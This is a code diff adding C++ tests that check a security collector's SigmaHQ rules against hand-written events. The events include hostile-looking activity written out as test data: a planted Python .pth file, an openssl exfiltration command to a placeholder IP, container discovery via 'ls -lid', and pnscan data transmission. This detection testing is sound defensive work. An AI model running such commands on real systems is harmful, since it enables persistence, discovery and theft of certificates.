@@ -282,3 +282,36 @@ TEST_CASE("buildtrail-collector rules check prints each rule and a summary") {
   CHECK(bt::testing::run_command(exe + " rules check /nonexistent-h19").exit_code == 1);
   CHECK(bt::testing::run_command(exe + " rules list").exit_code == 2);
 }
+
+TEST_CASE("hand-written events for SigmaHQ rules whose values are regexes") {
+  {
+    const Rule& r = by_title("Python Path Configuration File Creation - Linux");
+    bt::events::Event e;
+    bt::events::FileWrite w;
+    w.operation = "create";
+    w.path = "/usr/lib/python3.11/site-packages/litellm_init.pth";
+    e.body = w;
+    CHECK(matches(r, EventFields(e)));
+    std::get<bt::events::FileWrite>(e.body).path = "/usr/lib/python3.11/site-packages/litellm/__init__.py";
+    CHECK(!matches(r, EventFields(e)));
+    std::get<bt::events::FileWrite>(e.body).path = "/usr/lib/python2.7/site-packages/x.pth";
+    CHECK(!matches(r, EventFields(e)));
+  }
+  {
+    const Rule& r = by_title("UNC4841 - SSL Certificate Exfiltration Via Openssl");
+    CHECK(matches(r, EventFields(exec_event("/usr/bin/openssl",
+                                            {"openssl", "s_client", "-quiet", "-connect", "203.0.113.7:443"}))));
+    CHECK(!matches(r, EventFields(exec_event("/usr/bin/openssl",
+                                             {"openssl", "s_client", "-quiet", "-connect", "example.com:443"}))));
+  }
+  {
+    const Rule& r = by_title("Potential Container Discovery Via Inodes Listing");
+    CHECK(matches(r, EventFields(exec_event("/usr/bin/ls", {"ls", "-lid", "/"}))));
+    CHECK(!matches(r, EventFields(exec_event("/usr/bin/ls", {"ls", "-l", "/"}))));
+  }
+  {
+    const Rule& r = by_title("Pnscan Binary Data Transmission Activity");
+    CHECK(matches(r, EventFields(exec_event("/usr/bin/pnscan", {"pnscan", "-W", "\"2a 31 0d 0a\"", "10.0.0.0/24"}))));
+    CHECK(!matches(r, EventFields(exec_event("/usr/bin/pnscan", {"pnscan", "-w", "10.0.0.0/24"}))));
+  }
+}
